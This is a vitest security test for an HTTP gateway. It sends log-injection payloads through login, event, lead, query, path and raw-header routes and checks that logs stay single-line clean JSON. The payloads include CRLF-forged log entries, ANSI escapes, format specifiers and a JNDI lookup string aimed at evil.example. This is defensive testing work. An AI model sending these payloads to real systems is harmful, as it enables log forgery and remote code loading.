import { randomUUID } from 'node:crypto'
import { StorageError } from '@millrace/storage/mysql'
import { describe, expect, it } from 'vitest'
import type { GatewayApp } from '../../services/gateway/src/http/gateway-app.ts'
import { attackGateway } from './attacked-gateway.ts'
import { mustFail } from './proof.ts'
import { exchange } from './raw-http.ts'
import { event, lead } from './samples.ts'

const mark = `mark${randomUUID().slice(0, 8)}`
const texts = [
  `${mark}\r\n{"level":"fatal","service":"gateway","msg":"forged"}`,
  `${mark}\u001b[2J\u001b[31mred`,
  `${mark} %s %o %j %d %O`,
  `${mark}","level":"fatal","msg":"forged`,
  `${mark}\u2028\u0085\u0007`,
  `${mark}\${jndi:ldap://evil.example/x}`,
]

/** Sends the texts in every place there is, to routes that succeed, that refuse and that fail, and reads the log. */
async function inject(prepare?: (app: GatewayApp) => void): Promise<void> {
  // Errors of the stores hold words of their queries, as a database writes them.
  const fail = async (query?: unknown) => {
    throw new StorageError('UNAVAILABLE', `no answer to ${JSON.stringify(query)}`)
  }
  const change = {
    eventStore: { page: fail, receipts: fail, storedSince: fail },
    leadStore: { list: fail, byId: fail, historyOf: fail },
  }
  await attackGateway(
    async ({ ask, test, port }) => {
      for (const text of texts) {
        const value = encodeURIComponent(text)
        await ask('/api/v1/login', { body: { username: text.slice(0, 60), password: text } })
        await ask('/api/v1/login', { body: { [text]: text } })
        await ask('/events', { role: 'admin', body: { ...event, user_id: text, metadata: { [text]: text } } })
        await ask('/events', { role: 'admin', body: { ...event, metadata: { [text]: text } } })
        await ask('/api/v1/lead/process', { role: 'admin', body: { ...lead, attributes: { [text]: text } } })
        await ask(`/events?user_id=${value}&event_type=${value}`, { role: 'admin' })
        await ask(`/api/v1/leads?email=${value}&status=${value}`, { role: 'admin' })
        await ask(`/events/${value}/receipt?${value}=${value}`, { role: 'admin' })
        await ask(`/nothing/${value}`, { role: 'user' })
        await ask('/api/v1/leads', { role: 'user' })
        const line = text.replace(/[\r\n]/g, ' ')
        const head = `GET /api/v1/leads HTTP/1.1\r\nHost: x\r\nConnection: close`
        await exchange(port, [
          Buffer.from(`${head}\r\nUser-Agent: ${line}\r\nX-Request-Id: ${line}\r\nAuthorization: ${line}\r\n\r\n`),
        ])
        await exchange(port, [Buffer.from(`${head}\r\nX-Long: ${'x'.repeat(1_000_000)}\r\n\r\n`)])
      }
      // The failures of the stores at the least.
      expect(test.logLines.length).toBeGreaterThan(texts.length)
      for (const written of test.logLines) {
        expect(written.endsWith('\n'), written).toBe(true)
        const line = written.slice(0, -1)
        // One line, without anything that a terminal or a reader of lines takes for more than text.
        // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
        expect(line).not.toMatch(/[\u0000-\u001f\u007f]/)
        const entry = JSON.parse(line)
        expect(entry).toMatchObject({ service: 'gateway-test', level: expect.stringMatching(/^(info|warn|error)$/) })
        // Messages are ours; what a stranger wrote is in no message and in no field but the error's.
        const { err, ...rest } = entry
        expect(JSON.stringify(rest), line).not.toContain(mark)
      }
    },
    change,
    prepare,
  )
}

describe('S10 texts that want to be log lines', () => {
  it('become none, and are in none', () => inject())
  it('proof: a gateway that logs addresses would be found out', () =>
    mustFail(() =>
      inject((app) => {
        app.addHook('onRequest', async (request) => {
          request.log.info(`asked for ${decodeURIComponent(request.url)}`)
        })
      }),
    ))
})
